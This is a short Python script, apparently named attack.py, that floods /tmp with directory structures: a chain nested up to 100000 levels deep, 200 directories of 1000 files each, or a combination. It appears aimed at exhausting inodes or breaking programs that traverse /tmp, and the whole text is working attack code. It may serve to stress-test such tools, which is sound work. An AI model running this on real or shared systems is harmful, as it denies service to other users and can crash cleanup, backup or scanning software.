"""Fill /tmp: 100000 directories deep, or 200 directories with 1000 files each, or 40000 directories with a file each beside
30000 deep.

    attack.py deep|wide|both

"""

import os
import sys

os.chdir("/tmp")
if sys.argv[1] == "both":
    for i in range(40000):
        os.mkdir(str(i))
        os.mknod(f"{i}/f")
if sys.argv[1] != "wide":
    for _ in range(100000 if sys.argv[1] == "deep" else 30000):
        os.mkdir("d")
        os.chdir("d")
else:
    for i in range(200):
        os.mkdir(str(i))
        for j in range(1000):
            os.mknod(f"{i}/{j}")
